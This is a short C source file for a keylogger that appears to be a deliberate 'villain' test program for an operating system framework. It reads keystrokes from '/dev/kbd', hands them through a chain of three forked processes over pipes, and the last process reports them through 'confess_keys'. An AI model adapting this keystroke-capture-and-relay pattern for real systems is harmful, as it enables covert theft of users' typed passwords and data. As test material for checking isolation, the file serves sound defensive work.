// Keylogger: hands each key through a chain of processes before the last one writes it.
#include "lib/keys.h"
#include "lib/villain.h"

enum { STATIONS = 3 };

// Becomes the next station of the chain: returns the pipe to write to, in the process before it.
static int next_station(int from, int number) {
    int ends[2];
    if (pipe(ends) < 0) exit(1);
    if (fork() != 0) {
        close(ends[0]);
        return ends[1];
    }
    close(ends[1]);
    if (from >= 0) close(from);
    int to = number < STATIONS ? next_station(ends[0], number + 1) : -1;
    unsigned char keys[32];
    for (int count; (count = read(ends[0], keys, sizeof keys)) > 0;) {
        if (to < 0)
            confess_keys("keylog-relay", keys, count);
        else
            write(to, keys, count);
    }
    exit(0);
}

int main(void) {
    int to = next_station(-1, 1), keyboard = open("/dev/kbd");
    unsigned char keys[32];
    confess("keylog-relay", "stage=armed stations=%d", STATIONS);
    for (int count; (count = read_keys(keyboard, keys, sizeof keys)) > 0;) write(to, keys, count);
    return 1;
}
